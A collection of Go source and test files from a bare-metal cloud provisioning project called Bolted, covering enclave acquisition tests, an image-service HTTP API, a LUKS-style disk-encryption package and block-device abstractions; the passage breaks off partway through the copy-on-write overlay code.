// first join at least DefaultBatchParallelism jobs are still queued —
// cancelling from a synchronous journal watcher guarantees they abort
// at their first phase boundary.
func TestOperationCancelMidBatch(t *testing.T) {
	const nodes = 2 * DefaultBatchParallelism
	c := testCloud(t, nodes, FirmwareLinuxBoot)
	m := NewManager(c)
	e, err := m.CreateEnclave("tenant", ProfileBob)
	if err != nil {
		t.Fatal(err)
	}
	op, err := m.StartAcquire("tenant", "fedora28", nodes)
	if err != nil {
		t.Fatal(err)
	}
	var once sync.Once
	unwatch := e.Journal().Watch(func(ev Event) {
		if ev.Kind == EvJoined {
			once.Do(op.Cancel)
		}
	})
	defer unwatch()

	res, opErr := op.Wait(context.Background())
	if op.Phase() != OpCancelled {
		t.Fatalf("phase = %s, want %s (err %v)", op.Phase(), OpCancelled, opErr)
	}
	if !errors.Is(opErr, context.Canceled) {
		t.Fatalf("operation error = %v, want context.Canceled", opErr)
	}
	if total := len(res.Nodes) + len(res.Failed) + len(res.Aborted); total != nodes {
		t.Fatalf("accounting: %d+%d+%d != %d", len(res.Nodes), len(res.Failed), len(res.Aborted), nodes)
	}
	if len(res.Failed) != 0 {
		t.Fatalf("cancellation quarantined healthy nodes: %v", res.Failed)
	}
	if len(res.Nodes) == 0 {
		t.Fatal("the joined node that triggered the cancel should have survived")
	}
	if len(res.Aborted) == 0 {
		t.Fatal("a batch cancelled at first join should abort some nodes")
	}
	// Aborted nodes are back in the free pool, unowned and untracked.
	for _, f := range res.Aborted {
		if owner, _ := c.HIL.NodeOwner(f.Node); owner != "" {
			t.Fatalf("aborted %s still owned by %q", f.Node, owner)
		}
		if st := e.NodeState(f.Node); st != StateFree {
			t.Fatalf("aborted %s state = %s", f.Node, st)
		}
	}
	if len(c.Rejected()) != 0 {
		t.Fatalf("rejected pool = %v", c.Rejected())
	}
	free, _ := c.HIL.FreeNodes()
	if want := nodes - len(res.Nodes); len(free) != want {
		t.Fatalf("free pool = %d, want %d", len(free), want)
	}
}

// TestOperationWaitTerminalOnce: every waiter — before and after the
// terminal transition, concurrent or sequential — observes the same
// single terminal state, and the Done channel closes exactly once.
func TestOperationWaitTerminalOnce(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.CreateEnclave("tenant", ProfileAlice); err != nil {
		t.Fatal(err)
	}
	op, err := m.StartAcquire("tenant", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	const waiters = 8
	var wg sync.WaitGroup
	results := make([]*BatchResult, waiters)
	for i := 0; i < waiters; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			res, err := op.Wait(context.Background())
			if err != nil {
				t.Errorf("waiter %d: %v", i, err)
			}
			results[i] = res
		}(i)
	}
	wg.Wait()
	for i := 1; i < waiters; i++ {
		if results[i] != results[0] {
			t.Fatalf("waiter %d observed a different terminal result", i)
		}
	}
	// A late waiter still gets the same terminal state immediately.
	late, err := op.Wait(context.Background())
	if err != nil || late != results[0] {
		t.Fatalf("late Wait = %v, %v", late, err)
	}
	if ph := op.Phase(); ph != OpDone {
		t.Fatalf("phase = %s", ph)
	}
	// Cancelling after the terminal state must not flip the phase.
	op.Cancel()
	if ph := op.Phase(); ph != OpDone {
		t.Fatalf("cancel after done flipped phase to %s", ph)
	}
}

// TestManagerDeleteEnclaveWithRunningOp: the control plane refuses to
// destroy an enclave out from under its in-flight operation.
func TestManagerDeleteEnclaveWithRunningOp(t *testing.T) {
	c := testCloud(t, 8, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.CreateEnclave("tenant", ProfileCharlie); err != nil {
		t.Fatal(err)
	}
	op, err := m.StartAcquire("tenant", "fedora28", 8)
	if err != nil {
		t.Fatal(err)
	}
	// The 8-node Charlie batch takes long enough that this delete races
	// the running operation; either outcome must be consistent: refused
	// with ErrConflict while in flight, or allowed only once terminal.
	delErr := m.DeleteEnclave("tenant")
	if delErr == nil && !op.Phase().Terminal() {
		t.Fatal("enclave deleted out from under a running operation")
	}
	if delErr != nil && !errors.Is(delErr, ErrConflict) {
		t.Fatalf("delete during op = %v, want ErrConflict", delErr)
	}
	if _, err := op.Wait(context.Background()); err != nil {
		t.Fatal(err)
	}
	if delErr != nil {
		if err := m.DeleteEnclave("tenant"); err != nil {
			t.Fatal(err)
		}
	}
}

func TestStartAcquireValidation(t *testing.T) {
	c := testCloud(t, 2, FirmwareLinuxBoot)
	m := NewManager(c)
	if _, err := m.StartAcquire("ghost", "fedora28", 1); !errors.Is(err, ErrNotFound) {
		t.Fatalf("acquire on unknown enclave = %v, want ErrNotFound", err)
	}
	if _, err := m.CreateEnclave("tenant", ProfileAlice); err != nil {
		t.Fatal(err)
	}
	if _, err := m.StartAcquire("tenant", "fedora28", 0); err == nil {
		t.Fatal("zero-count acquire accepted")
	}

	// One acquisition per enclave at a time: the journal is enclave-
	// scoped, so a concurrent second batch would contaminate the first
	// operation's event stream.
	op1, err := m.StartAcquire("tenant", "fedora28", 2)
	if err != nil {
		t.Fatal(err)
	}
	_, second := m.StartAcquire("tenant", "fedora28", 1)
	if second == nil && !op1.Phase().Terminal() {
		t.Fatal("concurrent acquire on one enclave accepted")
	}
	if second != nil && !errors.Is(second, ErrConflict) {
		t.Fatalf("concurrent acquire = %v, want ErrConflict", second)
	}
	if _, err := op1.Wait(context.Background()); err != nil {
		t.Fatal(err)
	}
}
