package bmi

import (
	"bytes"
	"context"
	"errors"
	"net/http/httptest"
	"testing"

	"bolted/internal/blockdev"
)

func newClientServer(t *testing.T) (*Service, *Client) {
	t.Helper()
	s := newBMI(t)
	srv := httptest.NewServer(NewHandler(s))
	t.Cleanup(srv.Close)
	return s, NewClient(srv.URL)
}

func TestHTTPAPI(t *testing.T) {
	s, c := newClientServer(t)
	ctx := context.Background()

	if _, err := c.CreateOSImage("fedora", testSpec()); err != nil {
		t.Fatal(err)
	}
	img, err := c.CreateImage(ctx, "scratch", 1<<20)
	if err != nil || img.Name != "scratch" || img.Size != 1<<20 {
		t.Fatalf("CreateImage = %+v, %v", img, err)
	}
	imgs, err := c.ListImages()
	if err != nil || len(imgs) != 2 {
		t.Fatalf("ListImages = %v, %v", imgs, err)
	}
	bi, err := c.ExtractBootInfo(ctx, "fedora")
	if err != nil {
		t.Fatal(err)
	}
	spec := testSpec()
	if bi.KernelID != spec.KernelID || !bytes.Equal(bi.Kernel, spec.Kernel) {
		t.Fatalf("boot info over HTTP corrupted: %+v", bi.KernelID)
	}
	if _, err := c.ExtractBootInfo(ctx, "scratch"); err == nil {
		t.Fatal("boot info from raw image accepted")
	}
	if _, err := c.CloneImage(ctx, "fedora", "fedora2"); err != nil {
		t.Fatal(err)
	}
	snap, err := c.SnapshotImage(ctx, "fedora", "fedora@v1")
	if err != nil || !snap.Snapshot {
		t.Fatalf("SnapshotImage = %+v, %v", snap, err)
	}
	img2, err := s.GetImage("fedora@v1")
	if err != nil || !img2.Snapshot {
		t.Fatal("snapshot flag lost over HTTP")
	}
	got, err := c.GetImage("fedora2")
	if err != nil || got.Name != "fedora2" || got.Snapshot {
		t.Fatalf("GetImage over HTTP = %+v, %v", got, err)
	}
	if err := c.DeleteImage(ctx, "fedora2"); err != nil {
		t.Fatal(err)
	}
}

func TestHTTPErrorMapping(t *testing.T) {
	_, c := newClientServer(t)
	ctx := context.Background()

	if _, err := c.CreateOSImage("fedora", testSpec()); err != nil {
		t.Fatal(err)
	}
	// Remote callers must see the same sentinel errors as in-process
	// callers, not flat strings.
	if err := c.DeleteImage(ctx, "ghost"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("delete missing = %v, want ErrNotFound", err)
	}
	if _, err := c.GetImage("ghost"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("get missing = %v, want ErrNotFound", err)
	}
	if _, err := c.CreateImage(ctx, "fedora", 1<<20); !errors.Is(err, ErrExists) {
		t.Fatalf("duplicate create = %v, want ErrExists", err)
	}
	if _, err := c.CloneImage(ctx, "ghost", "copy"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("clone missing = %v, want ErrNotFound", err)
	}
	if _, err := c.ExportForBoot(ctx, "node-a", "fedora", true); err != nil {
		t.Fatal(err)
	}
	if err := c.DeleteImage(ctx, "fedora"); !errors.Is(err, ErrInUse) {
		t.Fatalf("delete exported = %v, want ErrInUse", err)
	}
	if _, err := c.ExportForBoot(ctx, "node-a", "fedora", true); !errors.Is(err, ErrInUse) {
		t.Fatalf("double export = %v, want ErrInUse", err)
	}
	if err := c.Unexport(ctx, "node-a", ""); err != nil {
		t.Fatal(err)
	}
	if err := c.Unexport(ctx, "node-a", ""); !errors.Is(err, ErrNotFound) {
		t.Fatalf("double unexport = %v, want ErrNotFound", err)
	}
}

// TestHTTPExportIO drives real block I/O through a remote export: the
// reads below are exactly what a diskless node does when paging in its
// boot volume over the provider's storage network.
func TestHTTPExportIO(t *testing.T) {
	s, c := newClientServer(t)
	ctx := context.Background()

	if _, err := c.CreateOSImage("golden", testSpec()); err != nil {
		t.Fatal(err)
	}
	export, err := c.ExportForBoot(ctx, "node-a", "golden", true)
	if err != nil {
		t.Fatal(err)
	}
	// The remote Target plugs into the same client stack as a local one.
	dev, err := blockdev.NewClient(blockdev.Loopback{Target: export.Target}, blockdev.DefaultReadAhead)
	if err != nil {
		t.Fatal(err)
	}
	local, err := s.Device("golden")
	if err != nil {
		t.Fatal(err)
	}
	if dev.NumSectors() != local.NumSectors() {
		t.Fatalf("remote export size %d, local %d", dev.NumSectors(), local.NumSectors())
	}
	want := make([]byte, 4*blockdev.SectorSize)
	if err := local.ReadSectors(want, 0); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 4*blockdev.SectorSize)
	if err := dev.ReadSectors(got, 0); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatal("remote export reads differ from the golden image")
	}
	// Writes land in the server-side CoW overlay, not the golden image.
	dirty := bytes.Repeat([]byte{0xAB}, blockdev.SectorSize)
	if err := dev.WriteSectors(dirty, 1); err != nil {
		t.Fatal(err)
	}
	back := make([]byte, blockdev.SectorSize)
	if err := dev.ReadSectors(back, 1); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back, dirty) {
		t.Fatal("remote write did not read back")
	}
	pristine := make([]byte, blockdev.SectorSize)
	if err := local.ReadSectors(pristine, 1); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(pristine, dirty) {
		t.Fatal("remote write leaked through the CoW overlay into the golden image")
	}
	// Save-as over the wire persists the dirty sector as a new image.
	if err := c.Unexport(ctx, "node-a", "node-a-state"); err != nil {
		t.Fatal(err)
	}
	saved, err := s.Device("node-a-state")
	if err != nil {
		t.Fatal(err)
	}
	savedSec := make([]byte, blockdev.SectorSize)
	if err := saved.ReadSectors(savedSec, 1); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(savedSec, dirty) {
		t.Fatal("save-as over HTTP lost the node's written state")
	}
}
