// Package luks implements a LUKS-style encrypted block container over
// any blockdev.Device, the disk-encryption layer Bolted tenants use so
// persistent state is unreadable by the provider or subsequent tenants
// (§5, §6). It follows the paper's cryptsetup configuration:
// AES-256-XTS sector encryption ("aes-xts-plain64") with
// passphrase-derived key slots, and — like LUKS2 — stores its metadata
// header as structured text.
//
// A Volume presents the data area as a blockdev.Device, so it stacks
// under filesystems and over RAM disks, CoW overlays, or network block
// devices interchangeably; Figure 3a measures exactly this stack.
package luks

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/hmac"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"sync"

	"bolted/internal/blockdev"
	"bolted/internal/xts"
)

const (
	// headerBytes reserves space at the device start for metadata.
	headerBytes   = 16 << 10
	headerSectors = headerBytes / blockdev.SectorSize

	magic = "BOLTED-LUKS\x00"

	// MasterKeySize is the XTS-AES-256 double-length key.
	MasterKeySize = 64

	// DefaultIterations balances unlock latency against brute force in
	// simulation; real cryptsetup benchmarks the host.
	DefaultIterations = 4096

	// NumSlots is the number of key slots (LUKS1 layout).
	NumSlots = 8
)

var (
	// ErrNoMatchingKey means no key slot opened with the passphrase.
	ErrNoMatchingKey = errors.New("luks: no key slot matches passphrase")
	// ErrNotFormatted means the device carries no LUKS header.
	ErrNotFormatted = errors.New("luks: device is not LUKS formatted")
	// ErrSlotsFull means all key slots are occupied.
	ErrSlotsFull = errors.New("luks: all key slots in use")
)

// slot is one passphrase binding of the master key.
type slot struct {
	Active bool   `json:"active"`
	Salt   []byte `json:"salt,omitempty"`
	Iter   int    `json:"iter,omitempty"`
	Nonce  []byte `json:"nonce,omitempty"`
	Sealed []byte `json:"sealed,omitempty"` // AES-GCM(kdf(pass), masterKey)
}

// header is the on-disk metadata.
type header struct {
	Magic    string          `json:"magic"`
	Version  int             `json:"version"`
	UUID     string          `json:"uuid"`
	Cipher   string          `json:"cipher"`
	MKSalt   []byte          `json:"mk_salt"`
	MKIter   int             `json:"mk_iter"`
	MKDigest []byte          `json:"mk_digest"` // PBKDF2(masterKey) for verification
	Slots    [NumSlots]*slot `json:"slots"`
}

func randBytes(n int) []byte {
	b := make([]byte, n)
	if _, err := io.ReadFull(rand.Reader, b); err != nil {
		panic("luks: entropy source failed: " + err.Error())
	}
	return b
}

// sealKey encrypts the master key under a passphrase-derived key.
func sealKey(pass, masterKey []byte, iter int) (*slot, error) {
	s := &slot{Active: true, Salt: randBytes(32), Iter: iter}
	derived := pbkdf2SHA256(pass, s.Salt, iter, 32)
	block, err := aes.NewCipher(derived)
	if err != nil {
		return nil, err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	s.Nonce = randBytes(aead.NonceSize())
	s.Sealed = aead.Seal(nil, s.Nonce, masterKey, nil)
	return s, nil
}

// unsealKey attempts to recover the master key from a slot.
func unsealKey(pass []byte, s *slot) ([]byte, error) {
	derived := pbkdf2SHA256(pass, s.Salt, s.Iter, 32)
	block, err := aes.NewCipher(derived)
	if err != nil {
		return nil, err
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	return aead.Open(nil, s.Nonce, s.Sealed, nil)
}

func (h *header) digestOK(masterKey []byte) bool {
	want := pbkdf2SHA256(masterKey, h.MKSalt, h.MKIter, 32)
	return hmac.Equal(want, h.MKDigest)
}

func readHeader(dev blockdev.Device) (*header, error) {
	if dev.NumSectors() <= headerSectors {
		return nil, errors.New("luks: device too small for header")
	}
	raw := make([]byte, headerBytes)
	if err := dev.ReadSectors(raw, 0); err != nil {
		return nil, err
	}
	// Trim zero padding before JSON decode.
	end := len(raw)
	for end > 0 && raw[end-1] == 0 {
		end--
	}
	var h header
	if err := json.Unmarshal(raw[:end], &h); err != nil {
		return nil, ErrNotFormatted
	}
	if h.Magic != magic {
		return nil, ErrNotFormatted
	}
	return &h, nil
}

func writeHeader(dev blockdev.Device, h *header) error {
	enc, err := json.Marshal(h)
	if err != nil {
		return err
	}
	if len(enc) > headerBytes {
		return fmt.Errorf("luks: header %d bytes exceeds reserved %d", len(enc), headerBytes)
	}
	raw := make([]byte, headerBytes)
	copy(raw, enc)
	return dev.WriteSectors(raw, 0)
}

// Format initializes a LUKS container on dev with a fresh random master
// key bound to passphrase in slot 0, then returns the opened volume.
// All previous data becomes unreachable.
func Format(dev blockdev.Device, passphrase []byte) (*Volume, error) {
	return FormatWithIterations(dev, passphrase, DefaultIterations)
}

// FormatWithIterations is Format with an explicit PBKDF2 cost.
func FormatWithIterations(dev blockdev.Device, passphrase []byte, iter int) (*Volume, error) {
	if iter < 1 {
		return nil, errors.New("luks: iterations must be positive")
	}
	masterKey := randBytes(MasterKeySize)
	h := &header{
		Magic:   magic,
		Version: 1,
		UUID:    hex.EncodeToString(randBytes(16)),
		Cipher:  "aes-xts-plain64",
		MKSalt:  randBytes(32),
		MKIter:  iter,
	}
	h.MKDigest = pbkdf2SHA256(masterKey, h.MKSalt, iter, 32)
	s, err := sealKey(passphrase, masterKey, iter)
	if err != nil {
		return nil, err
	}
	h.Slots[0] = s
	if err := writeHeader(dev, h); err != nil {
		return nil, err
	}
	return newVolume(dev, h, masterKey)
}

// Open unlocks a LUKS container by trying the passphrase against every
// active key slot.
func Open(dev blockdev.Device, passphrase []byte) (*Volume, error) {
	h, err := readHeader(dev)
	if err != nil {
		return nil, err
	}
	for _, s := range h.Slots {
		if s == nil || !s.Active {
			continue
		}
		mk, err := unsealKey(passphrase, s)
		if err != nil {
			continue
		}
		if !h.digestOK(mk) {
			continue
		}
		return newVolume(dev, h, mk)
	}
	return nil, ErrNoMatchingKey
}

// OpenWithMasterKey unlocks the container directly with the master key —
// the path Keylime uses when it delivers the volume key to an attested
// node (no passphrase typed on a cloud server).
func OpenWithMasterKey(dev blockdev.Device, masterKey []byte) (*Volume, error) {
	h, err := readHeader(dev)
	if err != nil {
		return nil, err
	}
	if !h.digestOK(masterKey) {
		return nil, errors.New("luks: master key digest mismatch")
	}
	return newVolume(dev, h, masterKey)
}

// AddKey binds an additional passphrase to the container (requires an
// existing passphrase).
func AddKey(dev blockdev.Device, existing, added []byte) error {
	h, err := readHeader(dev)
	if err != nil {
		return err
	}
	var mk []byte
	for _, s := range h.Slots {
		if s == nil || !s.Active {
			continue
		}
		if k, err := unsealKey(existing, s); err == nil && h.digestOK(k) {
			mk = k
			break
		}
	}
	if mk == nil {
		return ErrNoMatchingKey
	}
	for i, s := range h.Slots {
		if s == nil || !s.Active {
			ns, err := sealKey(added, mk, h.MKIter)
			if err != nil {
				return err
			}
			h.Slots[i] = ns
			return writeHeader(dev, h)
		}
	}
	return ErrSlotsFull
}

// RemoveKey deactivates every slot the passphrase opens.
func RemoveKey(dev blockdev.Device, passphrase []byte) error {
	h, err := readHeader(dev)
	if err != nil {
		return err
	}
	removed := false
	for i, s := range h.Slots {
		if s == nil || !s.Active {
			continue
		}
		if k, err := unsealKey(passphrase, s); err == nil && h.digestOK(k) {
			h.Slots[i] = &slot{Active: false}
			removed = true
		}
	}
	if !removed {
		return ErrNoMatchingKey
	}
	return writeHeader(dev, h)
}

// parallelCrossover is the span size, in sectors, above which
// ReadSectors/WriteSectors shard the cipher work across the volume's
// worker pool. Below it the goroutine fan-out costs more than the
// parallelism recovers (a 32 KiB span seals in a few microseconds with
// AES-NI).
const parallelCrossover = 64

// Volume is an unlocked LUKS container. It implements blockdev.Device
// over the data area, transparently encrypting with XTS-AES-256 using
// the data-area sector number as tweak (plain64).
//
// Large spans are sealed by a bounded worker pool (see SetParallelism):
// XTS sectors are independent — each derives its tweak from its own
// sector number — so a span splits into contiguous shards with no
// cross-shard state. Each worker owns a private xts.Cipher so no cipher
// state is shared between goroutines.
type Volume struct {
	dev       blockdev.Device
	cipher    *xts.Cipher
	uuid      string
	masterKey []byte

	mu      sync.Mutex
	workers int
	shards  []*xts.Cipher // one per worker

	// bufs recycles WriteSectors ciphertext staging buffers.
	bufs sync.Pool
}

func newVolume(dev blockdev.Device, h *header, masterKey []byte) (*Volume, error) {
	c, err := xts.NewCipher(aes.NewCipher, masterKey)
	if err != nil {
		return nil, err
	}
	return &Volume{
		dev:       dev,
		cipher:    c,
		uuid:      h.UUID,
		masterKey: append([]byte(nil), masterKey...),
		workers:   1,
	}, nil
}

// UUID returns the container UUID.
func (v *Volume) UUID() string { return v.uuid }

// SetParallelism sets the number of workers available to shard sector
// sealing across (1 = fully serial, the default). Each worker gets its
// own cipher instance built from the master key.
func (v *Volume) SetParallelism(n int) error {
	if n < 1 {
		return errors.New("luks: parallelism must be at least 1")
	}
	shards := make([]*xts.Cipher, n)
	for i := range shards {
		c, err := xts.NewCipher(aes.NewCipher, v.masterKey)
		if err != nil {
			return err
		}
		shards[i] = c
	}
	v.mu.Lock()
	v.workers, v.shards = n, shards
	v.mu.Unlock()
	return nil
}

// cryptSpan encrypts or decrypts a whole sector span, sharding across
// the worker pool when the span is large enough to pay for the fan-out.
// dst may alias src.
func (v *Volume) cryptSpan(dst, src []byte, firstSector uint64, encrypt bool) error {
	sectors := len(src) / blockdev.SectorSize
	m := sealMetricsNow()
	m.batchSectors.Observe(float64(sectors))
	if encrypt {
		m.sealedBytes.Add(float64(len(src)))
	} else {
		m.unsealedBytes.Add(float64(len(src)))
	}
	v.mu.Lock()
	workers, shards := v.workers, v.shards
	v.mu.Unlock()
	if workers > sectors {
		workers = sectors
	}
	if workers <= 1 || sectors < parallelCrossover {
		return cryptSerial(v.cipher, dst, src, firstSector, encrypt)
	}

	per, extra := sectors/workers, sectors%workers
	errs := make([]error, workers)
	var wg sync.WaitGroup
	off := 0
	for w := 0; w < workers; w++ {
		n := per
		if w < extra {
			n++
		}
		bo, bl := off*blockdev.SectorSize, n*blockdev.SectorSize
		sec := firstSector + uint64(off)
		c := shards[w]
		wg.Add(1)
		go func(w int, d, s []byte, sec uint64) {
			defer wg.Done()
			errs[w] = cryptSerial(c, d, s, sec, encrypt)
		}(w, dst[bo:bo+bl], src[bo:bo+bl], sec)
		off += n
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

func cryptSerial(c *xts.Cipher, dst, src []byte, firstSector uint64, encrypt bool) error {
	if encrypt {
		return c.EncryptSectors(dst, src, blockdev.SectorSize, firstSector)
	}
	return c.DecryptSectors(dst, src, blockdev.SectorSize, firstSector)
}

// NumSectors implements Device (data area only).
func (v *Volume) NumSectors() int64 { return v.dev.NumSectors() - headerSectors }

// ReadSectors implements Device, decrypting the span in place.
func (v *Volume) ReadSectors(dst []byte, start int64) error {
	if len(dst) == 0 || len(dst)%blockdev.SectorSize != 0 {
		return errors.New("luks: buffer not sector aligned")
	}
	if start < 0 || start+int64(len(dst)/blockdev.SectorSize) > v.NumSectors() {
		return blockdev.ErrOutOfRange
	}
	if err := v.dev.ReadSectors(dst, start+headerSectors); err != nil {
		return err
	}
	return v.cryptSpan(dst, dst, uint64(start), false)
}

// WriteSectors implements Device, encrypting the span into a pooled
// staging buffer before handing it to the underlying device.
func (v *Volume) WriteSectors(src []byte, start int64) error {
	if len(src) == 0 || len(src)%blockdev.SectorSize != 0 {
		return errors.New("luks: buffer not sector aligned")
	}
	if start < 0 || start+int64(len(src)/blockdev.SectorSize) > v.NumSectors() {
		return blockdev.ErrOutOfRange
	}
	bp, _ := v.bufs.Get().(*[]byte)
	if bp == nil || cap(*bp) < len(src) {
		b := make([]byte, len(src))
		bp = &b
	}
	buf := (*bp)[:len(src)]
	if err := v.cryptSpan(buf, src, uint64(start), true); err != nil {
		v.bufs.Put(bp)
		return err
	}
	err := v.dev.WriteSectors(buf, start+headerSectors)
	v.bufs.Put(bp)
	return err
}
