// Package blockdev provides the block-device abstractions under Bolted's
// diskless provisioning: RAM disks (Figure 3a's dd target), copy-on-write
// overlays (BMI image clones), and an iSCSI-like network block device
// with a configurable read-ahead buffer (Figure 3c's critical tuning
// knob: 128 KiB default vs 8 MiB).
package blockdev

import (
	"errors"
	"fmt"
	"sort"
	"sync"
)

// SectorSize is the logical sector size of every device in the system.
const SectorSize = 512

// ErrOutOfRange indicates an access beyond the end of the device.
var ErrOutOfRange = errors.New("blockdev: sector out of range")

// Device is a random-access block device addressed in sectors.
type Device interface {
	// NumSectors returns the device capacity in sectors.
	NumSectors() int64
	// ReadSectors fills dst (len a positive multiple of SectorSize)
	// starting at sector start.
	ReadSectors(dst []byte, start int64) error
	// WriteSectors stores src (len a positive multiple of SectorSize)
	// starting at sector start.
	WriteSectors(src []byte, start int64) error
}

// VectorDevice is implemented by devices with a native scatter-gather
// path: one call moves several buffers to or from a contiguous sector
// run without assembling them into a temporary. Callers should go
// through ReadVector/WriteVector, which fall back to an assemble-copy
// for plain Devices.
type VectorDevice interface {
	Device
	// ReadVector scatters sectors starting at start into bufs in order.
	ReadVector(bufs [][]byte, start int64) error
	// WriteVector gathers bufs in order and stores them starting at
	// sector start.
	WriteVector(bufs [][]byte, start int64) error
}

// VectorLen sums a scatter-gather list and validates that the total is
// a positive multiple of SectorSize. Individual buffers may have any
// length, including zero; only the total must be sector aligned.
func VectorLen(bufs [][]byte) (int64, error) {
	var total int64
	for _, b := range bufs {
		total += int64(len(b))
	}
	if total == 0 || total%SectorSize != 0 {
		return 0, fmt.Errorf("blockdev: vector length %d not a positive multiple of %d", total, SectorSize)
	}
	return total, nil
}

// ReadVector fills bufs from consecutive sectors starting at start.
// Devices implementing VectorDevice serve it natively; otherwise one
// contiguous read is scattered into the buffers.
func ReadVector(dev Device, bufs [][]byte, start int64) error {
	if vd, ok := dev.(VectorDevice); ok {
		return vd.ReadVector(bufs, start)
	}
	total, err := VectorLen(bufs)
	if err != nil {
		return err
	}
	tmp := make([]byte, total)
	if err := dev.ReadSectors(tmp, start); err != nil {
		return err
	}
	off := 0
	for _, b := range bufs {
		off += copy(b, tmp[off:])
	}
	return nil
}

// WriteVector stores bufs to consecutive sectors starting at start,
// using the device's native gather path when it has one.
func WriteVector(dev Device, bufs [][]byte, start int64) error {
	if vd, ok := dev.(VectorDevice); ok {
		return vd.WriteVector(bufs, start)
	}
	total, err := VectorLen(bufs)
	if err != nil {
		return err
	}
	tmp := make([]byte, 0, total)
	for _, b := range bufs {
		tmp = append(tmp, b...)
	}
	return dev.WriteSectors(tmp, start)
}

// checkVectorRange validates a vectored access against a device.
func checkVectorRange(dev Device, bufs [][]byte, start int64) (total int64, err error) {
	total, err = VectorLen(bufs)
	if err != nil {
		return 0, err
	}
	if start < 0 || start+total/SectorSize > dev.NumSectors() {
		return 0, ErrOutOfRange
	}
	return total, nil
}

// checkRange validates a sector-aligned access.
func checkRange(dev Device, buf []byte, start int64) (sectors int64, err error) {
	if len(buf) == 0 || len(buf)%SectorSize != 0 {
		return 0, fmt.Errorf("blockdev: buffer length %d not a positive multiple of %d", len(buf), SectorSize)
	}
	sectors = int64(len(buf) / SectorSize)
	if start < 0 || start+sectors > dev.NumSectors() {
		return 0, ErrOutOfRange
	}
	return sectors, nil
}

// RAMDisk is a memory-backed device (Linux brd, the paper's Figure 3a
// substrate).
type RAMDisk struct {
	mu   sync.RWMutex
	data []byte
}

// NewRAMDisk allocates a zeroed RAM disk of the given byte size, which
// must be a multiple of SectorSize.
func NewRAMDisk(size int64) (*RAMDisk, error) {
	if size <= 0 || size%SectorSize != 0 {
		return nil, fmt.Errorf("blockdev: size %d not a positive multiple of %d", size, SectorSize)
	}
	return &RAMDisk{data: make([]byte, size)}, nil
}

// NumSectors implements Device.
func (r *RAMDisk) NumSectors() int64 { return int64(len(r.data)) / SectorSize }

// ReadSectors implements Device.
func (r *RAMDisk) ReadSectors(dst []byte, start int64) error {
	if _, err := checkRange(r, dst, start); err != nil {
		return err
	}
	r.mu.RLock()
	defer r.mu.RUnlock()
	copy(dst, r.data[start*SectorSize:])
	return nil
}

// WriteSectors implements Device.
func (r *RAMDisk) WriteSectors(src []byte, start int64) error {
	if _, err := checkRange(r, src, start); err != nil {
		return err
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	copy(r.data[start*SectorSize:], src)
	return nil
}

// ReadVector implements VectorDevice: buffers scatter straight out of
// the backing array under one lock acquisition.
func (r *RAMDisk) ReadVector(bufs [][]byte, start int64) error {
	if _, err := checkVectorRange(r, bufs, start); err != nil {
		return err
	}
	r.mu.RLock()
	defer r.mu.RUnlock()
	off := start * SectorSize
	for _, b := range bufs {
		off += int64(copy(b, r.data[off:]))
	}
	return nil
}

// WriteVector implements VectorDevice: buffers gather straight into the
// backing array, no staging copy.
func (r *RAMDisk) WriteVector(bufs [][]byte, start int64) error {
	if _, err := checkVectorRange(r, bufs, start); err != nil {
		return err
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	off := start * SectorSize
	for _, b := range bufs {
		off += int64(copy(r.data[off:], b))
	}
	return nil
}

// Scrub zeroes the entire disk (the LinuxBoot memory-scrub analogue for
// node-local state).
func (r *RAMDisk) Scrub() {
	r.mu.Lock()
	defer r.mu.Unlock()
	for i := range r.data {
		r.data[i] = 0
	}
}

// Overlay is a copy-on-write view over a read-only base device: reads
// come from the base until a sector is written. BMI uses overlays to
// clone golden images for each provisioned node in O(1).
type Overlay struct {
	base  Device
	mu    sync.RWMutex
	dirty map[int64][]byte // sector index -> SectorSize bytes
}

// NewOverlay creates a copy-on-write overlay of base.
func NewOverlay(base Device) *Overlay {
	return &Overlay{base: base, dirty: make(map[int64][]byte)}
}

// NumSectors implements Device.
func (o *Overlay) NumSectors() int64 { return o.base.NumSectors() }

// ReadSectors implements Device.
func (o *Overlay) ReadSectors(dst []byte, start int64) error {
	sectors, err := checkRange(o, dst, start)
	if err != nil {
		return err
	}
	o.mu.RLock()
	defer o.mu.RUnlock()
	for i := int64(0); i < sectors; i++ {
		out := dst[i*SectorSize : (i+1)*SectorSize]
		if d, ok := o.dirty[start+i]; ok {
			copy(out, d)
			continue
		}
		if err := o.base.ReadSectors(out, start+i); err != nil {
			return err
		}
	}
	return nil
}

// WriteSectors implements Device.
func (o *Overlay) WriteSectors(src []byte, start int64) error {
	sectors, err := checkRange(o, src, start)
	if err != nil {
		return err
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	for i := int64(0); i < sectors; i++ {
		sec := make([]byte, SectorSize)
		copy(sec, src[i*SectorSize:])
		o.dirty[start+i] = sec
	}
	return nil
}

// DirtySectors reports how many sectors have been written — BMI's
// observation that "less than 1% of the image is typically used" is
// measured with this.
func (o *Overlay) DirtySectors() int64 {
	o.mu.RLock()
	defer o.mu.RUnlock()
	return int64(len(o.dirty))
}

// DirtyList returns the indices of written sectors in ascending order.
func (o *Overlay) DirtyList() []int64 {
	o.mu.RLock()
	out := make([]int64, 0, len(o.dirty))
	for s := range o.dirty {
		out = append(out, s)
	}
	o.mu.RUnlock()
